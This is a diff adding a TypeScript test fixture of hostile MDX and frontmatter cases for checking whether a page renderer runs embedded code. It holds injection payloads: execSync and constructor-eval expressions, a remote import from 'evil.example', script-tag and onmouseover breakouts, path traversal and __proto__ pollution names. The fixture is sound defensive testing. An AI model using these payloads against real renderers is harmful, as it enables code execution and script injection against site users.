@@ -1,0 +1,62 @@
+import { type HostileCase, makePage, writeHostilePage } from './case';
+
+const RUN = 'globalThis.ran = 1';
+
+const BODIES: Record<string, string> = {
+  'an expression': `{${RUN}}`,
+  'an expression in a line': `Words {${RUN}} words.`,
+  'an expression in a heading': `## Words {${RUN}}`,
+  'an expression that calls': '{(() => { globalThis.ran = 1 })()}',
+  'an expression that loads': "{require('node:child_process').execSync('touch ran')}",
+  'an expression that imports': "{await import('node:fs')}",
+  'an expression that ends the process': '{process.exit(0)}',
+  'an expression by way of a constructor': "{[].constructor.constructor('globalThis.ran=1')()}",
+  'an expression without an end': '{globalThis.ran = 1',
+  'an expression in an attribute': `<Callout type={${RUN}}>a</Callout>`,
+  'attributes that are spread': '<Callout {...globalThis}>a</Callout>',
+  'an expression in a name': '<Callout type="note" {...{title: globalThis.ran = 1}}>a</Callout>',
+  'an expression in a component': `<Details summary="a">{${RUN}}</Details>`,
+  'an import': "import fs from 'node:fs'\n\nWords.",
+  'an import of an address': "import 'https://evil.example/x.js'\n\nWords.",
+  'an export': `export const a = (${RUN})\n\nWords.`,
+  'an export that stands for the page': `export default () => { ${RUN} }\n\nWords.`,
+  'an export of the layout': `export { default as layout } from './x'\n\nWords.`,
+  'a comment of code': `{/* */ ${RUN}}`,
+  'a string of code': `{\`\${${RUN}}\`}`,
+  'an escape that is taken back': `\\{{${RUN}}}`,
+  'a comment that ends early': `<!-- a --> {${RUN}} <!-- b -->`,
+  'a comment that hides a tag': '<!-- > --><script>window.ran=1</script><!-- -->',
+  'a comment across code': `<!-- \`\`\` -->\n{${RUN}}\n<!-- \`\`\` -->`,
+  'a title of code that closes': '```js title="</figcaption><script>window.ran=1</script>"\na\n```',
+  'a language that is a path': '```../../../../etc/passwd\na\n```',
+  'a language of the prototype': '```__proto__\na\n```',
+  'code that closes its element': '```html\n</code></pre><script>window.ran=1</script>\n```',
+  'a term that closes': '<Term name="</dt><script>window.ran=1</script>">\n\nWords.\n\n</Term>',
+  'an id that closes': `## Words {#a"onmouseover="window.ran=1}`,
+  'an id of the document': '## Words {#__proto__}\n\n## body\n\n## cookie',
+  'a footnote of the prototype': 'Words[^__proto__].\n\n[^__proto__]: Words.',
+  'a name of the prototype': 'See [words][__proto__].\n\n[__proto__]: https://example.org',
+  'a callout of the prototype': ':::__proto__[Words]\n\nWords.\n\n:::',
+  'a drawing of the prototype': '<Diagram name="__proto__" caption="a">\n\nWords.\n\n</Diagram>',
+  'a drawing that leads out': '<Diagram name="../../x" caption="a">\n\nWords.\n\n</Diagram>',
+};
+
+const FENCES: Record<string, string> = {
+  'frontmatter that is code': `---js\n{ title: (${RUN}) }\n---\n\nWords.\n`,
+  'frontmatter that is code by its long name': `---javascript\n{ title: (${RUN}) }\n---\n\nWords.\n`,
+  'frontmatter that is code after a space': `--- js\n{ title: (${RUN}) }\n---\n\nWords.\n`,
+  'frontmatter that is code in capitals': `---JS\n{ title: (${RUN}) }\n---\n\nWords.\n`,
+  'frontmatter in another language': `---coffee\ntitle: (${RUN})\n---\n\nWords.\n`,
+  'frontmatter in JSON': '---json\n{ "__proto__": { "title": "x" } }\n---\n\nWords.\n',
+  'frontmatter of the prototype': '---__proto__\ntitle: x\n---\n\nWords.\n',
+};
+
+/** Code that a renderer of MDX or a reader of frontmatter might run. */
+export const CODE: HostileCase[] = [
+  ...Object.entries(BODIES).map(([name, body]) => makePage('code in text', name, body)),
+  ...Object.entries(FENCES).map(([name, text]) => ({
+    group: 'code in frontmatter',
+    name,
+    files: { 'hostile.mdx': text, 'second.mdx': writeHostilePage('Words.', { title: '"Second"' }) },
+  })),
+];
